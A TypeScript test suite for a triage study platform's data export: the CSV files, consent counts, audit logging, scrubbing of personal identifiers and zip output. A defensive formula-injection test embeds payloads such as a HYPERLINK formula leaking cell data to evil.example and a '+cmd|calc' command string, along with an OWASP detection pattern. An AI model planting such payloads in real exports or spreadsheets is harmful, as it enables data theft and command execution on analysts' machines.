import { sql } from 'kysely';
import { copyOutOf } from '../../src/lib/server/db/copy-out.ts';
import Papa from 'papaparse';
import fs from 'node:fs';
import path from 'node:path';
import { unzipSync, strFromU8 } from 'fflate';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { analyze } from '../../analysis/analyze.ts';
import { expectConsortAddsUp } from '../helpers/consort.ts';
import { readExportDir } from '../../analysis/io/export-reader.ts';
import { CLI_ACTOR } from '../../src/lib/server/actor.ts';
import { analyzeStudy } from '../../src/lib/server/analysis/study-analysis.service.ts';
import { exportCard } from '../../src/lib/server/cards/cards.service.ts';
import { writeStudyEvidence } from '../../src/lib/server/cards/evidence.service.ts';
import { changeStatus } from '../../src/lib/server/prereg/prereg.service.ts';
import { runBenchmark } from '../../src/lib/server/assistant/benchmark.service.ts';
import { ChatRefusedError, sendChatMessage } from '../../src/lib/server/assistant/chat.service.ts';
import { codeConversations } from '../../src/lib/server/coding/coding.service.ts';
import type { LlmConfig } from '../../src/lib/server/config.ts';
import { studyExport, type ExportOptions } from '../../src/lib/server/export/export.service.ts';
import { exportZipStream, writeExportToDir } from '../../src/lib/server/export/writers.ts';
import {
	consent,
	finishReading,
	readyToDecide,
	submitAttention,
	submitDecision,
	submitEndQuestionnaire,
	submitEpisodeQuestionnaire,
	submitScreening
} from '../../src/lib/server/participants/journey.service.ts';
import { RunningConfigError } from '../../src/lib/server/prereg/prereg.service.ts';
import type { StudyProtocol } from '../../src/lib/server/protocols/study-schema.ts';
import { saveProtocolDraft } from '../../src/lib/server/studies/studies.service.ts';
import { databaseKinds, useTestDatabase, type TestDatabase } from '../helpers/database.ts';
import { startFakeOpenAi, type FakeOpenAi } from '../helpers/fake-openai.ts';
import { tempDir } from '../helpers/server.ts';
import { ensureCards, exampleProtocol, newRecruitingStudy } from '../helpers/studies.ts';

const PEOPLE = 9;
let fake: FakeOpenAi;
beforeAll(async () => {
	fake = await startFakeOpenAi();
	fake.reply = () => 'It may be appendicitis. Go to the emergency department (A&E) now.';
});
afterAll(() => fake.close());

describe.each(databaseKinds())('exporting a study (%s)', (kind) => {
	const database = useTestDatabase(kind);
	let t: TestDatabase;
	let protocol: StudyProtocol;
	const slug = `export-${kind}`;
	const llm: LlmConfig = { endpoints: {}, retryWindowMs: 100 };

	beforeEach(() => {
		t = database();
		llm.endpoints = { default: { baseUrl: fake.url, apiKey: undefined } };
	});

	/** One participant through the whole journey, chatting where their arm has an assistant. */
	async function walk(i: number) {
		const { participant } = await consent(t.db, slug, {
			agree: true,
			params: new URLSearchParams()
		});
		await submitScreening(t.db, slug, participant.id, {
			adult: 'yes',
			medical_training: 'none',
			chatbot_use: i % 2 ? 'often' : 'rarely'
		});
		for (const n of [1, 2]) {
			await finishReading(t.db, participant.id, n);
			try {
				await sendChatMessage(
					t.db,
					{ llm },
					{
						participantId: participant.id,
						episode: n,
						text: `I am jane${i}@example.org, call me on 07700 900${100 + i}`
					},
					() => {}
				);
			} catch (e) {
				if (!(e instanceof ChatRefusedError)) throw e; // the control arm has no chat
			}
			await readyToDecide(t.db, participant.id, n);
			await submitDecision(t.db, protocol, participant.id, n, {
				disposition: 'emergency_department',
				conditions: ['apendicitis', 'see www.example.org']
			});
			await submitEpisodeQuestionnaire(t.db, protocol, participant.id, n, {
				confidence: '5',
				helpfulness: String(3 + (i % 4)),
				would_follow: '4'
			});
		}
		await submitAttention(t.db, protocol, participant.id, { reading: 'Sometimes' });
		await submitEndQuestionnaire(t.db, protocol, participant.id, { trust_ai_health: '3' });
	}

	it('refuses a draft study', async () => {
		await ensureCards(t.db);
		await saveProtocolDraft(t.db, { ...exampleProtocol(), slug: `draft-${kind}` }, CLI_ACTOR);
		await expect(
			studyExport(t.db, `draft-${kind}`, { freeText: true, scrub: false }, CLI_ACTOR)
		).rejects.toBeInstanceOf(RunningConfigError);
	});

	it('writes the documented files, which the analysis library reads and analyses', async () => {
		protocol = await newRecruitingStudy(t.db, slug);
		for (let i = 1; i <= PEOPLE; i++) await walk(i);
		// One declined: not exported (only people who consented are).
		await consent(t.db, slug, { agree: false, params: new URLSearchParams() });
		await runBenchmark(t.db, { slug, armKey: 'assistant_llm', mode: 'physician', repeats: 2, llm });
		await codeConversations(t.db, slug, 'rule', llm);

		const dir = tempDir('bedside-export-');
		const handle = await studyExport(t.db, slug, { freeText: true, scrub: false }, CLI_ACTOR);
		await writeExportToDir(handle, dir);
		expect(fs.readdirSync(dir).sort()).toEqual([
			'codebook.json',
			'deviations.csv',
			'episodes.csv',
			'export_report.json',
			'follow_ups.csv',
			'measures.csv',
			'messages.csv',
			'participants.csv',
			'recommendations.csv',
			'study.json'
		]);
		expect(handle.report.rows['participants.csv']).toBe(PEOPLE);
		expect(handle.report.rows['episodes.csv']).toBe(PEOPLE * 2);

		const data = readExportDir(dir); // throws ExportError on any problem
		expect(data.participants).toHaveLength(PEOPLE);
		expect(data.episodes.every((e) => e.disposition === 'emergency_department')).toBe(true);
		const result = analyze(data, { seed: 1 });
		expect(result.consort.consented).toBe(PEOPLE);
		// The one who declined is counted for CONSORT (assessed = declined + consented).
		expect(data.study.enrolment.declined).toBe(1);
		expect(result.consort.enrolment.assessed).toBe(PEOPLE + 1);
		expectConsortAddsUp(result);
		expect(result.deviations.recorded).toBe(true);
		const episodes = fs.readFileSync(path.join(dir, 'episodes.csv'), 'utf8');
		expect(episodes).toContain('apendicitis;see www.example.org');
		const messages = fs.readFileSync(path.join(dir, 'messages.csv'), 'utf8');
		expect(messages).toMatch(/jane\d@example\.org/);
		const recommendations = fs.readFileSync(path.join(dir, 'recommendations.csv'), 'utf8');
		expect(recommendations).toMatch(/^benchmark,,,assistant_llm-physician-/m);
		expect(recommendations).toMatch(/^conversation,[0-9a-f-]{36},1,,assistant_/m);
		const codebook = JSON.parse(fs.readFileSync(path.join(dir, 'codebook.json'), 'utf8'));
		for (const file of [
			'participants.csv',
			'episodes.csv',
			'measures.csv',
			'recommendations.csv',
			'messages.csv'
		]) {
			const header = fs.readFileSync(path.join(dir, file), 'utf8').split('\n')[0]!.split(',');
			for (const column of header)
				expect(codebook.columns, `${file} ${column}`).toContainEqual(
					expect.objectContaining({ file, column })
				);
		}
		// This export, and only it so far, is in the study's audit log, with its options.
		const audit = await t.db
			.selectFrom('audit_events')
			.innerJoin('studies', 'studies.id', 'audit_events.study_id')
			.select(['audit_events.details', 'audit_events.actor_kind'])
			.where('audit_events.action', '=', 'study.export')
			.where('studies.slug', '=', slug)
			.execute();
		expect(audit).toEqual([
			{ actor_kind: 'cli', details: { free_text: true, scrub: false, raw: false } }
		]);
	});

	it('writes the estimates back as evidence on the card assumptions the study tests', async () => {
		const { result } = await analyzeStudy(t.db, slug, CLI_ACTOR);
		// Analysing in the app reads the data without handing it out: an analysis in the audit log,
		// not another export.
		const actions = await t.db
			.selectFrom('audit_events')
			.innerJoin('studies', 'studies.id', 'audit_events.study_id')
			.select('audit_events.action')
			.where('audit_events.action', 'in', ['study.export', 'study.analyze'])
			.where('studies.slug', '=', slug)
			.orderBy('audit_events.id')
			.execute();
		expect(actions.map((a) => a.action)).toEqual(['study.export', 'study.analyze']);
		expect(result.consort.enrolment.declined).toBe(1);
		// Not while the study recruits: the cards are public, an interim estimate must not reach them.
		await expect(writeStudyEvidence(t.db, slug, result, CLI_ACTOR)).rejects.toThrow(
			/is recruiting: evidence is written to the public cards once the study is closed/
		);
		await changeStatus(t.db, slug, 'close', CLI_ACTOR);
		const first = await writeStudyEvidence(t.db, slug, result, CLI_ACTOR);
		expect(first.assumptions).toEqual([
			'bean-triage-scenarios.decision_mediation',
			'bean-triage-scenarios.interaction_type'
		]);
		expect(first.written).toBeGreaterThan(0);
		const card = await exportCard(t.db, 'bean-triage-scenarios');
		const written = card!.outcome.decision_mediation!.evidence!.filter((e) => e.study === slug);
		const gap = result.mediation.find((m) => m.gap)!;
		expect(written).toContainEqual(
			expect.objectContaining({ value: gap.gap!.diff, ci: gap.gap!.ci })
		);
		// A second write replaces the study's evidence rather than adding to it, and is audited.
		const again = await writeStudyEvidence(t.db, slug, result, CLI_ACTOR);
		expect(again.analysisSha256).toBe(first.analysisSha256);
		const rows = await t.db
			.selectFrom('assumption_evidence')
			.innerJoin('studies', 'studies.id', 'assumption_evidence.study_id')
			.where('studies.slug', '=', slug)
			.select('assumption_evidence.analysis_sha256')
			.execute();
		expect(rows).toHaveLength(first.written);
		const audit = await t.db
			.selectFrom('audit_events')
			.where('action', '=', 'evidence.written')
			.where('target', '=', slug)
			.select('details')
			.execute();
		expect(audit).toHaveLength(2);
		await expect(writeStudyEvidence(t.db, `draft-${kind}`, result, CLI_ACTOR)).rejects.toThrow(
			/draft/
		);
	});

	it('scrubs identifiers and reports it, or leaves free text out', async () => {
		const scrubbed = tempDir('bedside-export-');
		const handle = await studyExport(t.db, slug, { freeText: true, scrub: true }, CLI_ACTOR);
		await writeExportToDir(handle, scrubbed);
		const messages = fs.readFileSync(path.join(scrubbed, 'messages.csv'), 'utf8');
		expect(messages).not.toMatch(/@example\.org|07700/);
		expect(messages).toContain('I am [email], call me on [phone]');
		const report = JSON.parse(fs.readFileSync(path.join(scrubbed, 'export_report.json'), 'utf8'));
		expect(report.scrubbed.email).toBeGreaterThan(0);
		expect(report.scrubbed.phone).toBe(report.scrubbed.email);
		expect(report.scrubbed.url).toBe(PEOPLE * 2); // the typed "see www.example.org"

		const bare = tempDir('bedside-export-');
		await writeExportToDir(
			await studyExport(t.db, slug, { freeText: false, scrub: false }, CLI_ACTOR),
			bare
		);
		const rows = readExportDir(bare);
		expect(rows.episodes.length).toBe(PEOPLE * 2);
		const text = fs
			.readFileSync(path.join(bare, 'messages.csv'), 'utf8')
			.split('\n')
			.slice(1)
			.filter(Boolean);
		expect(text.every((line) => line.split(',')[4] === '')).toBe(true);
		expect(fs.readFileSync(path.join(bare, 'episodes.csv'), 'utf8')).not.toContain('apendicitis');
	});

	it.runIf(kind === 'pg')(
		'formats messages.csv through COPY exactly as the pages of rows do, under every option',
		async () => {
			const copySlug = 'copy-pg';
			await newRecruitingStudy(t.db, copySlug);
			const session = await consent(t.db, copySlug, { agree: true, params: new URLSearchParams() });
			await submitScreening(t.db, copySlug, session.participant.id, {
				adult: 'yes',
				medical_training: 'none',
				chatbot_use: 'often'
			});
			const episode = await t.db
				.selectFrom('episodes')
				.select('id')
				.where('participant_id', '=', session.participant.id)
				.where('episode', '=', 1)
				.executeTakeFirstOrThrow();
			// Text a CSV writer can get wrong: quotes, commas, line breaks, formulas, multi-byte
			// characters, a lone quote, an empty message, a timestamp with microseconds.
			const contents = [
				'plain',
				'a, "quoted" word',
				'two\nlines\r\nand CRLF',
				'=HYPERLINK("http://evil.example","x")',
				'+1',
				'-2 is negative',
				'@SUM(A1)',
				'\ttab first',
				'Ünïcödé ✓ 🩺 日本語',
				'"',
				'',
				'x'.repeat(70_000)
			];
			for (const [i, content] of contents.entries())
				await sql`insert into messages (episode_id, turn, role, content, created_at)
					values (${episode.id}, ${i + 1}, 'user', ${content}, '2026-12-01 06:00:00.123789+00')`.execute(
					t.db
				);
			expect(copyOutOf(t.db)).toBeDefined(); // the pool has COPY; a transaction does not
			const both = async (options: ExportOptions) => {
				const viaCopy = tempDir('bedside-copy-');
				const copied = await studyExport(t.db, copySlug, options, CLI_ACTOR);
				await writeExportToDir(copied, viaCopy);
				// Inside a transaction there is no COPY: the pages of rows, as on PGlite.
				const viaPages = tempDir('bedside-pages-');
				const paged = await t.db.transaction().execute(async (trx) => {
					const handle = await studyExport(trx, copySlug, options, CLI_ACTOR);
					await writeExportToDir(handle, viaPages);
					return handle;
				});
				const read = (dir: string) => fs.readFileSync(path.join(dir, 'messages.csv'), 'utf8');
				expect(read(viaCopy)).toBe(read(viaPages));
				expect(copied.report.rows['messages.csv']).toBe(contents.length);
				expect(copied.report.formulaCells).toBe(paged.report.formulaCells);
				return read(viaCopy);
			};
			const safe = await both({ freeText: true, scrub: false });
			expect(safe).toContain(`"'=HYPERLINK(""http://evil.example"",""x"")"`);
			expect(safe).toContain('2026-12-01T06:00:00.123Z');
			await both({ freeText: true, scrub: false, raw: true });
			await both({ freeText: false, scrub: false });
		}
	);

	it('neutralizes text a spreadsheet would run as a formula, unless asked for a raw export', async () => {
		const formulaSlug = `formula-${kind}`;
		const study = await newRecruitingStudy(t.db, formulaSlug);
		const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")';
		// Participants until one is in an arm with the assistant (the control arm has no chat).
		let participant: { id: string } | undefined;
		for (let i = 0; i < 8 && !participant; i++) {
			const session = await consent(t.db, formulaSlug, {
				agree: true,
				params: new URLSearchParams()
			});
			await submitScreening(t.db, formulaSlug, session.participant.id, {
				adult: 'yes',
				medical_training: 'none',
				chatbot_use: 'often'
			});
			await finishReading(t.db, session.participant.id, 1);
			const chatted = await sendChatMessage(
				t.db,
				{ llm },
				{ participantId: session.participant.id, episode: 1, text: hostile },
				() => {}
			).then(
				() => true,
				(e: unknown) => {
					if (e instanceof ChatRefusedError) return false;
					throw e;
				}
			);
			if (chatted) participant = session.participant;
		}
		if (!participant) throw new Error('no participant reached an assistant arm');
		await readyToDecide(t.db, participant.id, 1);
		await submitDecision(t.db, study, participant.id, 1, {
			disposition: 'self_care',
			conditions: ['+cmd|calc', '@SUM(1+1)', '-2+3']
		});
		const cellsOf = (dir: string, file: string) =>
			Papa.parse<string[]>(fs.readFileSync(path.join(dir, file), 'utf8'), { skipEmptyLines: true })
				.data.slice(1)
				.flat();

		const safe = tempDir('bedside-export-');
		await writeExportToDir(
			await studyExport(t.db, formulaSlug, { freeText: true, scrub: false }, CLI_ACTOR),
			safe
		);
		// OWASP's rule, checked on every cell a spreadsheet would read: none starts a formula.
		for (const file of ['participants.csv', 'episodes.csv', 'measures.csv', 'messages.csv'])
			for (const cell of cellsOf(safe, file))
				expect(cell, `${file}: ${cell}`).not.toMatch(/^[=+@\t\r]|^-(?![\d.])/);
		expect(cellsOf(safe, 'messages.csv')).toContain(`'${hostile}`);
		const report = JSON.parse(fs.readFileSync(path.join(safe, 'export_report.json'), 'utf8'));
		expect(report.options.formula_safe).toBe(true);
		expect(report.formula_cells).toBeGreaterThanOrEqual(2);
		const codebook = JSON.parse(fs.readFileSync(path.join(safe, 'codebook.json'), 'utf8'));
		expect(codebook.text_cells).toMatch(/single quote/);

		const raw = tempDir('bedside-export-');
		await writeExportToDir(
			await studyExport(t.db, formulaSlug, { freeText: true, scrub: false, raw: true }, CLI_ACTOR),
			raw
		);
		expect(cellsOf(raw, 'messages.csv')).toContain(hostile);
		expect(
			JSON.parse(fs.readFileSync(path.join(raw, 'export_report.json'), 'utf8')).options.formula_safe
		).toBe(false);
	});

	it('streams the same files as a zip', async () => {
		const dir = tempDir('bedside-export-');
		await writeExportToDir(
			await studyExport(t.db, slug, { freeText: true, scrub: false }, CLI_ACTOR),
			dir
		);
		const zipped = new Uint8Array(
			await new Response(
				exportZipStream(await studyExport(t.db, slug, { freeText: true, scrub: false }, CLI_ACTOR))
			).arrayBuffer()
		);
		const files = unzipSync(zipped);
		expect(Object.keys(files).sort()).toEqual(
			fs
				.readdirSync(dir)
				.sort()
				.map((f) => `${slug}/${f}`)
		);
		for (const f of ['participants.csv', 'episodes.csv', 'messages.csv', 'study.json'])
			expect(strFromU8(files[`${slug}/${f}`]!)).toBe(fs.readFileSync(path.join(dir, f), 'utf8'));
	});
});
